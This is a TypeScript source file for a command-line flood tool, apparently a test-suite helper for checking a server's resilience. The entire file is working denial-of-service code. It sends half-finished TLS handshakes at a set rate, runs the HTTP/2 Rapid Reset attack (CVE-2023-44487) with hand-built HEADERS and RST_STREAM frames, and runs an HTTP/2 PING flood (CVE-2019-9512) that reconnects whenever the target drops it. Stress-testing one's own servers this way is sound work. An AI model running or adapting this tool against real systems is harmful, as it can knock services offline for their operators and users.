/**
 * A hostile peer, for a while, at a rate that does not ask how the other side is doing. Kinds of attack:
 * - handshakes: RATE connections a second, each with half a TLS handshake (a good ClientHello, and then nothing more)
 * - resets: on an HTTP/2 session RATE tunnels a second are asked for, and each is reset in the same write (CVE-2023-44487)
 * - pings: on an HTTP/2 session RATE PINGs a second, each of which demands an answer (CVE-2019-9512)
 * A session that the other side ends is opened again after a tenth of a second; what fell due in between counts as refused.
 *
 * usage: node flood.ts HOST PORT KIND RATE SECONDS AUTHORITY < LINE
 * AUTHORITY is the host and port that tunnels ask for, LINE is JSON with `key` and `cert`, PEM. Says `ready` when the attack
 * is under way, and after SECONDS how much of it there was.
 */
import { once } from 'node:events'
import { connect, type Socket } from 'node:net'
import { createInterface } from 'node:readline'
import { Duplex } from 'node:stream'
import { connect as connectTls, type TLSSocket } from 'node:tls'
import { argument, host, stop, tell } from './program.ts'

const TICK_MS = 5
const AGAIN_MS = 100
const OPEN_TIMEOUT_MS = 5000
/** What may wait in this process for a peer that does not read: beyond it nothing is sent. */
const MOST_WAITING_BYTES = 256 * 1024

const port = argument(1)
const kind = process.argv[4] ?? ''
const rate = argument(3)
const seconds = argument(4)
const authority = process.argv[7] ?? ''

let sent = 0
let refused = 0
let sessions = 0

/** Sends so many; gives how many it could. */
type Attack = (count: number) => number

function run(attack: Attack): void {
  process.stdout.write('ready\n')
  const beganMs = performance.now()
  let due = 0
  const timer = setInterval(() => {
    const elapsedMs = Math.min(performance.now() - beganMs, seconds * 1000)
    const count = Math.floor((elapsedMs / 1000) * rate) - due
    due += count
    const did = attack(count)
    sent += did
    refused += count - did
    if (elapsedMs < seconds * 1000) return
    clearInterval(timer)
    tell({ sent, refused, sessions })
    process.exit(0)
  }, TICK_MS)
}

/** The first flight of a TLS 1.3 client, as it would go out. */
function clientHello(): Promise<Buffer> {
  return new Promise(resolve => {
    const wire = new Duplex({ read: () => undefined, write: (chunk: Buffer) => resolve(chunk) })
    connectTls({ socket: wire, ALPNProtocols: ['h2'] }).on('error', () => undefined)
  })
}

async function handshakes(): Promise<Attack> {
  const hello = await clientHello()
  const open = new Set<Socket>()
  return count => {
    for (let at = 0; at < count; at++) {
      const socket = connect({ host: host(), port, noDelay: true })
      open.add(socket)
      socket.on('error', () => undefined) // the other side's right
      socket.on('close', () => open.delete(socket))
      socket.write(hello)
      socket.resume()
    }
    sessions += count
    return count
  }
}

/** HTTP/2 frames are a length of three bytes, a type, flags and the stream's number (RFC 9113 §4.1). */
function frame(type: number, flags: number, stream: number, payload: Uint8Array): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

const SETTINGS = 4
const HEADERS = 1
const RST_STREAM = 3
const PING = 6
const ACK = 1
const END_HEADERS = 4
const NOTHING = Buffer.alloc(0)
const HELLO = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  frame(SETTINGS, 0, 0, NOTHING),
  frame(SETTINGS, ACK, 0, NOTHING),
])

/** A field that is written out, by no table (RFC 7541 §6.2.2). */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([
    Buffer.of(0, name.length),
    Buffer.from(name),
    Buffer.of(value.length),
    Buffer.from(value),
  ])
}

const request = Buffer.concat([literal(':method', 'CONNECT'), literal(':authority', authority)])
const cancel = Buffer.of(0, 0, 0, 8)
const ping = frame(PING, 0, 0, Buffer.alloc(8))

class Session {
  readonly #credentials: { readonly key: string; readonly cert: string }
  #socket: TLSSocket | undefined
  #stream = -1

  constructor(credentials: { readonly key: string; readonly cert: string }) {
    this.#credentials = credentials
  }

  open(): Promise<void> {
    return new Promise(resolve => {
      const socket = connectTls({
        host: host(),
        port,
        ALPNProtocols: ['h2'],
        rejectUnauthorized: false,
        ...this.#credentials,
      })
      socket.on('error', () => undefined)
      socket.once('secureConnect', () => {
        sessions++
        socket.setNoDelay(true)
        socket.write(HELLO)
        socket.resume()
        this.#socket = socket
        this.#stream = -1
        resolve()
      })
      socket.once('close', () => {
        this.#socket = undefined
        setTimeout(() => void this.open(), AGAIN_MS)
      })
    })
  }

  /** One write for all of it. */
  send(count: number, next: (stream: number) => Buffer): number {
    const socket = this.#socket
    if (!socket || socket.writableLength > MOST_WAITING_BYTES) return 0
    socket.write(Buffer.concat(Array.from({ length: count }, () => next((this.#stream += 2)))))
    return count
  }
}

async function session(next: (stream: number) => Buffer): Promise<Attack> {
  const input = createInterface({ input: process.stdin })
  const [line] = (await once(input, 'line')) as [string]
  input.close()
  const made = new Session(JSON.parse(line) as { key: string; cert: string })
  const timer = setTimeout(() => stop('the other side gives no session'), OPEN_TIMEOUT_MS)
  await made.open()
  clearTimeout(timer)
  return count => (count === 0 ? 0 : made.send(count, next))
}

const ATTACKS: Readonly<Record<string, () => Promise<Attack>>> = {
  handshakes,
  resets: () =>
    session(stream =>
      Buffer.concat([frame(HEADERS, END_HEADERS, stream, request), frame(RST_STREAM, 0, stream, cancel)]),
    ),
  pings: () => session(() => ping),
}

const attack = ATTACKS[kind]
if (!attack) stop(`there is no attack '${kind}'`)
run(await attack())
